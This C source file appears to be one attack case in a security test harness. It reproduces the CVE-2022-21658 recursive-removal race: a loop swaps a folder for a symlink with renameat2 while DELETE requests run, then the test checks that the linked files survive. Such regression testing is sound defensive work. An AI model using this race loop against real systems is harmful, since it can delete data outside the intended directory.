/*
 * removal-race: a folder that becomes a link while it is being removed with all that is in it (CVE-2022-21658): what
 * the link leads to stays.
 */
#include "attack/attack.h"
#include "attack/tenant.h"
#include "attack/work.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { MS = 600, EXCHANGE = 2, KEPT = 20 };

static void make_file(const char *name)
{
    int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

    if (fd >= 0)
        (void)close(fd);
}

static void inside(struct attempt *attempt)
{
    char name[64];

    (void)attempt;
    ignore_result(mkdir("/tmp/kept", 0777));
    for (int i = 0; i < KEPT; i++) {
        (void)snprintf(name, sizeof name, "/tmp/kept/file%d", i);
        make_file(name);
    }
    ignore_result(symlink("/tmp/kept", "other"));
    tenant_say_ready();
    for (;;) {
        ignore_result(mkdir("tree", 0777));
        ignore_result(mkdir("tree/folder", 0777));
        make_file("tree/folder/file0");
        for (int i = 0; i < 64; i++)
            ignore_result(syscall(SYS_renameat2, AT_FDCWD, "tree/folder", AT_FDCWD, "other", EXCHANGE));
        /* It may have gone with the tree. */
        ignore_result(symlink("/tmp/kept", "other"));
    }
}

static void calls(struct attempt *attempt)
{
    struct tenant tenant;
    struct reply reply = {0};
    char path[TENANT_PATH_SIZE];
    unsigned removed = 0;

    if (!tenant_move_in(&tenant, attempt, caller_key(), NULL))
        return;
    if (tenant_start_inside(&tenant, attempt, "removal-race")) {
        uint64_t deadline_ns = work_deadline_ns(MS);
        struct ask ask = {
            .method = "DELETE", .path = tenant_path(&tenant, "/files/tree?recursive=true", path), .key = caller_key()};
        while (work_goes_on(deadline_ns))
            removed += caller_ask(&ask, NULL) == 204 ? 1 : 0;
        (void)tenant_shell(&tenant, "echo $(ls /tmp/kept | wc -l) kept", &reply);
        attempt_say(attempt, "what a link leads to", reply_says(&reply, "\"20 kept"), "some of it was removed");
        attempt_say(attempt, "winning the race", removed > 0, "nothing was removed");
        reply_release(&reply);
    }
    tenant_move_out(&tenant);
}

const struct attack attack_removal_race = {
    .name = "removal-race",
    .tries = "a folder that becomes a link while it is removed",
    .group = ATTACK_TRANSFERS,
    .calls = calls,
    .inside = inside,
};
